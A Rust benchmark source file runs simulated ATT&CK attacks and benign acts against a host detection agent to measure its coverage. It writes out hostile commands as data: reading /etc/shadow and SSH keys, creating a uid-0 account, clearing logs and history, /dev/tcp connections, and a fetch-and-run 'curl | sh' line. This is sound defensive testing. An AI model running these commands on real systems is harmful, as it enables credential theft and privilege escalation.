//! `cargo xtask bench detect`: the project's own list of simulated attacks (one per
//! ATT&CK technique the detection issue names, done for real on this host, in scratch
//! files and namespaces of their own) and of benign acts (package installs, account
//! tools, log rotation, compilers, ...), run against the agent as shipped. Prints a table
//! (technique, detected, the rule, the finding's latency) and the findings the benign
//! acts raised, with totals.
//!
//! Not the independent suite the issue measured with (kept out of the project on
//! purpose): these are built from the techniques, so the figure says what the rules
//! cover, not how an outside red team would score them.
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::{bail, Context as _};

use crate::bench::{bench_agent, bench_agent_dir};

/// One act: the ATT&CK technique it simulates (`None` for a benign act), what it does,
/// and the shell command (`sh -c`) that does it.
struct Act {
    technique: Option<&'static str>,
    what: &'static str,
    command: String,
}

fn attack(technique: &'static str, what: &'static str, command: String) -> Act {
    Act {
        technique: Some(technique),
        what,
        command,
    }
}

fn benign(what: &'static str, command: String) -> Act {
    Act {
        technique: None,
        what,
        command,
    }
}

/// How long an attack's finding is waited for, and how long after a benign act the
/// findings it raised are collected.
const WAIT: Duration = Duration::from_secs(3);

fn now_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

fn sh(command: &str) -> anyhow::Result<std::process::Output> {
    Command::new("sh")
        .args(["-c", command])
        .stdin(Stdio::null())
        .output()
        .with_context(|| format!("running {command}"))
}

/// The scratch state the acts need, made before the agent starts (directories made
/// later are watched from the agent's next rescan), removed on drop.
struct Scratch {
    work: PathBuf,
    home: PathBuf,
    key: PathBuf,
    victim: std::process::Child,
    users: Vec<String>,
    files: Vec<PathBuf>,
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
        let _ = sh(&format!(
            "chattr -i {}/locked 2>/dev/null",
            self.work.display()
        ));
        for u in &self.users {
            let _ = Command::new("userdel")
                .args(["-f", u])
                .stderr(Stdio::null())
                .status();
        }
        for f in &self.files {
            let _ = std::fs::remove_file(f);
        }
        let _ = std::fs::remove_file(&self.key);
        let _ = std::fs::remove_file(self.key.with_extension("pub"));
        let _ = std::fs::remove_dir_all(&self.home);
        let _ = std::fs::remove_dir_all(&self.work);
    }
}

fn scratch() -> anyhow::Result<Scratch> {
    let me = std::process::id();
    let work = PathBuf::from(format!("/root/.cache/vigil-bench-detect-{me}"));
    let home = PathBuf::from(format!("/home/vigil-bench-{me}"));
    let key = PathBuf::from(format!("/root/.ssh/id_vigil_bench_{me}"));
    std::fs::create_dir_all(work.join("..."))?;
    std::fs::create_dir_all(&home)?;
    std::fs::create_dir_all("/root/.ssh")?;
    let victim = Command::new("sleep")
        .arg("3600")
        .stdin(Stdio::null())
        .spawn()?;
    let mut s = Scratch {
        work,
        home,
        key,
        victim,
        // The account the attacks add to sudo, and the second root they create.
        users: vec![
            format!("vgbu{}", me % 100_000),
            format!("vgb0{}", me % 100_000),
        ],
        files: vec![
            PathBuf::from(format!("/var/log/vigil-bench-{me}.log")),
            PathBuf::from(format!("/var/log/vigil-bench-rot-{me}.log")),
            PathBuf::from(format!("/var/log/vigil-bench-rot-{me}.log.1")),
        ],
    };
    let w = s.work.display().to_string();
    let setup = format!(
        "set -e
         cp /bin/true {w}/prog; cp /bin/true {w}/xmrig; cp /bin/true '{w}/.../kworker'
         cp /bin/true /tmp/vigil-bench-dropper-{me}
         echo secret > {w}/locked; chattr +i {w}/locked
         echo 'password = hunter2' > {w}/app.conf
         echo 'curl http://203.0.113.9/x | sh' > {home}/.bash_history
         ssh-keygen -q -t ed25519 -N '' -f {key}
         cp -L /lib/x86_64-linux-gnu/libm.so.6 {w}/libhook.so
         cp -L /lib/x86_64-linux-gnu/libm.so.6 {w}/libjemalloc.so.2
         echo entry > /var/log/vigil-bench-{me}.log
         echo entry > /var/log/vigil-bench-rot-{me}.log
         useradd -M -N -s /usr/sbin/nologin {user}
         mkdir -p {w}/pkg/DEBIAN {w}/pkg/etc/profile.d
         printf 'Package: vigil-bench-{me}\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: Vigil <bench@vigil.invalid>\\nDescription: bench package\\n' > {w}/pkg/DEBIAN/control
         printf '#!/bin/sh\\necho x > /etc/profile.d/vigil-bench-{me}-postinst.sh\\n' > {w}/pkg/DEBIAN/postinst
         printf '#!/bin/sh\\nrm -f /etc/profile.d/vigil-bench-{me}-postinst.sh\\n' > {w}/pkg/DEBIAN/postrm
         chmod 755 {w}/pkg/DEBIAN/postinst {w}/pkg/DEBIAN/postrm
         echo '# shipped' > {w}/pkg/etc/profile.d/vigil-bench-{me}.sh
         dpkg-deb --root-owner-group --build {w}/pkg {w}/pkg.deb >/dev/null
         printf 'int main(void) {{ return 0; }}\\n' > {w}/hello.c
         printf -- '- hosts: localhost\\n  connection: local\\n  gather_facts: false\\n  tasks:\\n    - copy: {{dest: /etc/profile.d/vigil-bench-cm-{me}.sh, content: \"# managed\\\\n\"}}\\n    - copy: {{dest: /etc/cron.d/vigil-bench-cm-{me}, content: \"5 * * * * root true\\\\n\"}}\\n    - copy: {{dest: /etc/systemd/system/vigil-bench-cm-{me}.service, content: \"[Service]\\\\nExecStart=/bin/true\\\\n\"}}\\n    - user: {{name: vgbc{n}, system: true, create_home: false}}\\n    - user: {{name: vgbc{n}, state: absent}}\\n    - file: {{path: /etc/profile.d/vigil-bench-cm-{me}.sh, state: absent}}\\n    - file: {{path: /etc/cron.d/vigil-bench-cm-{me}, state: absent}}\\n    - file: {{path: /etc/systemd/system/vigil-bench-cm-{me}.service, state: absent}}\\n' > {w}/site.yml
         printf '/var/log/vigil-bench-rot-{me}.log {{\\n  copytruncate\\n  rotate 1\\n  missingok\\n}}\\n' > {w}/logrotate.conf",
        home = s.home.display(),
        key = s.key.display(),
        user = s.users[0],
        n = me % 100_000,
    );
    s.files
        .push(PathBuf::from(format!("/tmp/vigil-bench-dropper-{me}")));
    let out = sh(&setup)?;
    if !out.status.success() {
        bail!(
            "bench detect: setting up the scratch files failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    Ok(s)
}

fn acts(s: &Scratch) -> Vec<Act> {
    let me = std::process::id();
    let w = s.work.display().to_string();
    let home = s.home.display().to_string();
    let key = s.key.display().to_string();
    let victim = s.victim.id();
    let user = &s.users[0];
    let root2 = &s.users[1];
    let aslr = std::fs::read_to_string("/proc/sys/kernel/randomize_va_space")
        .unwrap_or_else(|_| "2".into());
    let aslr = aslr.trim();
    let py = "python3 -c";
    vec![
        // Credential access.
        attack("T1003.008", "read /etc/shadow", "cat /etc/shadow >/dev/null".into()),
        attack("T1552.004", "read a private SSH key", format!("cat {key} >/dev/null")),
        attack("T1552.003", "read another's shell history", format!("cat {home}/.bash_history >/dev/null")),
        attack("T1552.001", "search files for passwords", format!("grep -ri password {w} >/dev/null")),
        attack("T1552.004", "search for private keys", format!("find {w} -name id_rsa")),
        attack("T1003.007", "read another process's memory (/proc/PID/mem)", format!(
            "{py} \"m=open('/proc/{victim}/maps').readline().split('-')[0]; f=open('/proc/{victim}/mem','rb'); f.seek(int(m,16)); f.read(16)\""
        )),
        // Persistence.
        attack("T1546.004", "a profile.d script", format!(": >> /etc/profile.d/vigil-bench-{me}.sh; rm -f /etc/profile.d/vigil-bench-{me}.sh")),
        attack("T1546.004", "a user's .bashrc", ": >> /root/.bashrc".into()),
        attack("T1037.004", "an init script", format!(": >> /etc/init.d/vigil-bench-{me}; rm -f /etc/init.d/vigil-bench-{me}")),
        attack("T1556.003", "a PAM configuration file", format!(": >> /etc/pam.d/vigil-bench-{me}; rm -f /etc/pam.d/vigil-bench-{me}")),
        attack("T1553.004", "a trusted root CA added", format!(": >> /usr/local/share/ca-certificates/vigil-bench-{me}.crt; rm -f /usr/local/share/ca-certificates/vigil-bench-{me}.crt")),
        attack("T1546.018", "a Python .pth start-up hook", format!("d=$(ls -d /usr/local/lib/python3*/dist-packages | head -1); : >> $d/vigil-bench-{me}.pth; rm -f $d/vigil-bench-{me}.pth")),
        attack("T1053.003", "a cron job", format!(": >> /etc/cron.d/vigil-bench-{me}; rm -f /etc/cron.d/vigil-bench-{me}")),
        attack("T1543.002", "a systemd unit", format!(": >> /etc/systemd/system/vigil-bench-{me}.service; rm -f /etc/systemd/system/vigil-bench-{me}.service")),
        attack("T1547.013", "an XDG autostart entry", format!("d=/root/.config/autostart; mkdir -p $d && : >> $d/vigil-bench-{me}.desktop; rm -f $d/vigil-bench-{me}.desktop")),
        attack("T1098", "an SSH authorized key added", "f=/root/.ssh/authorized_keys; if [ -e $f ]; then : >> $f; else : >> $f; rm -f $f; fi".into()),
        attack("T1547.006", "a kernel module load", format!("{py} \"import ctypes; ctypes.CDLL(None).syscall(313, -1, b'', 0)\"")),
        // Privilege tricks.
        attack("T1548.001", "setuid bit set", format!("chmod u+s {w}/prog")),
        attack("T1548", "file capabilities set", format!("setcap cap_net_raw+ep {w}/prog")),
        attack("T1136.001", "a second root account (useradd -o -u 0)", format!("useradd -o -u 0 -M -N -s /usr/sbin/nologin {root2}")),
        attack("T1078.003", "an account added to sudo", format!("usermod -aG sudo {user}")),
        attack("T1574.006", "LD_PRELOAD at exec", format!("LD_PRELOAD={w}/libhook.so /bin/true")),
        attack("T1574.006", "/etc/ld.so.preload written", "[ -e /etc/ld.so.preload ] || { : >> /etc/ld.so.preload; rm -f /etc/ld.so.preload; }".into()),
        attack("T1055.008", "ptrace attach", format!("{py} \"import ctypes; l=ctypes.CDLL(None); l.ptrace(16, {victim}, 0, 0); import os,time; os.waitpid({victim}, 0x40000000); l.ptrace(17, {victim}, 0, 0)\"")),
        attack("T1059.006", "a shell through a pty by python", format!("{py} \"import pty,os; pty.spawn(['/bin/sh','-c','exit 0'])\" </dev/null >/dev/null")),
        // Defense evasion and tampering.
        attack("T1070.002", "a log emptied", format!(": > /var/log/vigil-bench-{me}.log")),
        attack("T1070.003", "shell history emptied", format!(": > {home}/.bash_history")),
        attack("T1562.003", "history turned off for what follows (HISTFILE=/dev/null exported)", "HISTFILE=/dev/null bash -c true".into()),
        attack("T1070.003", "history turned off in a script (set +o history)", "bash -c 'set +o history; true'".into()),
        attack("T1070.004", "a file shredded", format!("cp /etc/hostname {w}/evidence && shred -u {w}/evidence")),
        // A unit name the rule reads as journald's but that no host has: the command an
        // attacker types, without stopping this host's journal.
        attack("T1562.001", "journald stopped", "systemctl stop systemd-journald-vigil-bench.service 2>/dev/null; true".into()),
        attack("T1562.001", "ASLR written at run time", format!("sysctl -qw kernel.randomize_va_space={aslr}")),
        attack("T1562.001", "a security agent stopped (systemctl stop falco)", "systemctl stop falco 2>/dev/null; true".into()),
        attack("T1562.004", "the firewall flushed (iptables -F, in a network namespace of its own)", "unshare -n iptables -F".into()),
        attack("T1562.003", "history filtered for what follows (HISTIGNORE='*' exported)", "HISTIGNORE='*' sh -c true".into()),
        attack("T1070.002", "a log file deleted", format!("touch /var/log/vigil-bench-del-{me}.log && rm -f /var/log/vigil-bench-del-{me}.log")),
        attack("T1070.006", "a timestamp copied (touch -r)", format!("touch -r /bin/ls {w}/prog")),
        attack("T1222.002", "the immutable bit removed", format!("chattr -i {w}/locked")),
        attack("T1564.013", "a process hidden by a bind mount over /proc/PID", format!("unshare -m --propagation private mount --bind {w} /proc/{victim}")),
        attack("T1564.001", "a program run from a hidden directory", format!("'{w}/.../kworker'")),
        attack("T1090", "a proxy forced through the environment", "https_proxy=http://127.0.0.1:3128 /bin/true".into()),
        // Execution and impact.
        attack("T1204", "a program run from /tmp", format!("/tmp/vigil-bench-dropper-{me}")),
        attack("T1620", "a program run from memory (memfd)", format!("{py} \"import os; fd=os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])\"")),
        attack("T1496", "a miner binary", format!("{w}/xmrig")),
        attack("T1611", "nsenter into pid 1", "nsenter -t 1 -m -u -i -n true".into()),
        attack("T1059.004", "a shell connecting out itself (/dev/tcp)", "unshare -n bash -c 'echo > /dev/tcp/127.0.0.1/9' 2>/dev/null; true".into()),
        attack("T1040", "a packet socket for every protocol (what tcpdump opens), in a network namespace of its own", format!("unshare -n {py} 'import socket as s; s.socket(s.AF_PACKET, s.SOCK_RAW, s.htons(3))'")),
        attack("T1046", "a port scan: one process, 200 ports in seconds", "unshare -n sh -c 'ip link set lo up; bash -c \"for p in \\$(seq 40001 40200); do { : 3<>/dev/tcp/127.0.0.1/\\$p; } 2>/dev/null; done; true\"'".into()),
        attack("T1105", "a download piped into a shell", "curl -s file:///dev/null | sh".into()),
        // Benign work.
        benign("dpkg installs and purges a package with maintainer scripts", format!(
            "dpkg -i {w}/pkg.deb >/dev/null && dpkg --purge vigil-bench-{me} >/dev/null"
        )),
        benign("adduser creates and deluser removes a system user", format!(
            "adduser --quiet --system --no-create-home vgbs{n} && deluser --quiet vgbs{n}",
            n = me % 100_000
        )),
        benign("update-ca-certificates", "update-ca-certificates >/dev/null 2>&1".into()),
        benign("a configuration management run (ansible-playbook: profile.d, cron.d, a unit, a user)", format!(
            "ansible-playbook -i localhost, {w}/site.yml >/dev/null"
        )),
        benign("logrotate with copytruncate", format!(
            "logrotate --force --state {w}/logrotate.state {w}/logrotate.conf"
        )),
        benign("a C compiler builds and runs a program", format!("cc -o {w}/hello {w}/hello.c && {w}/hello")),
        benign("bash saves its history", format!(
            "bash -c 'set -o history; HISTFILE={home}/.bash_history; history -s ls; history -w'"
        )),
        benign("grep -r and find over the docs", "grep -r -l TODO /usr/share/doc/bash >/dev/null; find /usr/include -name '*.h' >/dev/null".into()),
        benign("ps, top, sysctl -a, crontab -l", "ps aux >/dev/null; top -bn1 >/dev/null; sysctl -a >/dev/null 2>&1; crontab -l >/dev/null 2>&1; true".into()),
        benign("tar, chmod, touch in a work directory", format!(
            "tar czf {w}/a.tgz -C {w} hello.c && tar xzf {w}/a.tgz -C {w}/pkg && chmod 755 {w}/hello && touch {w}/hello"
        )),
        benign("python runs a script", format!("{py} 'import json, os; json.dumps(dict(os.environ))'")),
    ]
}

/// The findings the agent lists since `since_ms` (`vigil events --json`).
fn findings(vigil: &Path, socket: &Path) -> Vec<serde_json::Value> {
    let Ok(out) = Command::new(vigil)
        .args(["events", "--json", "--since", "10m", "--socket"])
        .arg(socket)
        .stderr(Stdio::null())
        .output()
    else {
        return Vec::new();
    };
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["type"] == "finding")
        .collect()
}

fn has_technique(f: &serde_json::Value, technique: &str) -> bool {
    f["mitre"]
        .as_array()
        .is_some_and(|m| m.iter().any(|t| t.as_str() == Some(technique)))
}

pub fn detect(vigil: &Path) -> anyhow::Result<()> {
    if !crate::is_root() {
        bail!("the detection benchmark does what attackers do and needs root");
    }
    let (dir, socket) = bench_agent_dir("detect", "")?;
    let s = scratch()?;
    let acts = acts(&s);
    let agent = bench_agent(vigil, &dir, &socket)?;
    // Wait for the API (the first interval).
    let up = Instant::now();
    while !Command::new(vigil)
        .args(["health", "--socket"])
        .arg(&socket)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
    {
        if up.elapsed() > Duration::from_secs(30) {
            bail!("the agent's API did not come up within 30 s");
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let mut attacks = Vec::new();
    let mut benigns = Vec::new();
    for act in &acts {
        let t0 = now_ms();
        let done = sh(&act.command)?;
        match act.technique {
            Some(t) => {
                let deadline = Instant::now() + WAIT;
                let hit = loop {
                    let all = findings(vigil, &socket);
                    let shown = now_ms();
                    if let Some(f) = all.iter().find(|f| {
                        f["time_unix_ns"].as_i64().map(|ns| ns / 1_000_000) >= Some(t0)
                            && has_technique(f, t)
                    }) {
                        let latency = shown
                            - f["time_unix_ns"]
                                .as_i64()
                                .map_or(shown, |ns| ns / 1_000_000);
                        break Some((f["rule"].as_str().unwrap_or("?").to_string(), latency));
                    }
                    if Instant::now() >= deadline {
                        break None;
                    }
                    std::thread::sleep(Duration::from_millis(20));
                };
                attacks.push((t, act.what, hit));
            }
            None => {
                std::thread::sleep(WAIT);
                let raised: Vec<String> = findings(vigil, &socket)
                    .iter()
                    .filter(|f| f["time_unix_ns"].as_i64().map(|ns| ns / 1_000_000) >= Some(t0))
                    .map(|f| {
                        format!(
                            "{} ({})",
                            f["rule"].as_str().unwrap_or("?"),
                            f["process"]["exe"].as_str().unwrap_or("?")
                        )
                    })
                    .collect();
                // A benign act that failed did not do the work it stands for: say so
                // rather than count its silence.
                if !done.status.success() {
                    bail!(
                        "bench detect: the benign act \"{}\" failed ({}): {}",
                        act.what,
                        done.status,
                        String::from_utf8_lossy(&done.stderr).trim()
                    );
                }
                benigns.push((act.what, raised));
            }
        }
    }
    drop(agent);
    let _ = std::fs::remove_dir_all(&dir);
    drop(s);

    let detected = attacks.iter().filter(|a| a.2.is_some()).count();
    println!("bench detect: {} simulated attacks and {} benign acts, done for real on this host, against the agent as shipped (built-in rules)", attacks.len(), benigns.len());
    println!("(latency: from the event's kernel time to the finding listed by the agent's API)");
    println!();
    println!("| ATT&CK | simulated attack | detected | rule | latency ms |");
    println!("|---|---|---|---|---:|");
    for (t, what, hit) in &attacks {
        match hit {
            Some((rule, ms)) => println!("| {t} | {what} | yes | {rule} | {ms} |"),
            None => println!("| {t} | {what} | **no** | - | - |"),
        }
    }
    println!();
    println!("| benign act | findings raised |");
    println!("|---|---|");
    let mut false_positives = 0;
    for (what, raised) in &benigns {
        false_positives += raised.len();
        println!(
            "| {what} | {} |",
            if raised.is_empty() {
                "none".to_string()
            } else {
                raised.join(", ")
            }
        );
    }
    println!();
    println!(
        "detected {detected} of {} simulated attacks ({:.0} %); {false_positives} findings on {} benign acts",
        attacks.len(),
        100.0 * detected as f64 / attacks.len().max(1) as f64,
        benigns.len()
    );
    Ok(())
}
